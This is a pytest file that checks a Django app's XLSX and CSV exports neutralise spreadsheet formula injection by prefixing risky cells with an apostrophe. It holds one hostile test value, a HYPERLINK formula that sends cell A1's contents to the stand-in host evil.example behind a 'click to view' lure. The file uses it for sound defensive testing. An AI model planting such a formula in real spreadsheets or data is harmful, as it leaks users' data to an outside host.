"""Issue 10, found 5: no exported cell is a live formula (a tip's target `=HYPERLINK(...)`)."""

import io

import pytest
from openpyxl import load_workbook

from ipshield.cases.services import case_create
from ipshield.core.exports import safe_cell

pytestmark = pytest.mark.django_db
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+86 138", "'+86 138"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("＝1+1", "'＝1+1"),
        ("某某商贸有限公司", "某某商贸有限公司"),
        (-5, -5),
        (None, ""),
    ],
)
def test_cells_that_could_start_a_formula_become_text(value, shown):
    assert safe_cell(value) == shown


def test_case_exports_carry_no_formula(client, officer):
    case_create(actor=officer, data={"title": HOSTILE, "domain": "trademark"})
    client.force_login(officer)
    xlsx = client.get("/cases/?export=xlsx")
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    titles = [row[1] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert any(str(t).startswith("'=HYPERLINK") for t in titles)
    assert not any(str(c).startswith("=") for row in sheet.iter_rows(values_only=True) for c in row if c)
    csv_text = b"".join(client.get("/cases/?export=csv").streaming_content).decode("utf-8-sig")
    assert "'=HYPERLINK" in csv_text
    assert ',"=HYPERLINK' not in csv_text
    assert ",=HYPERLINK" not in csv_text
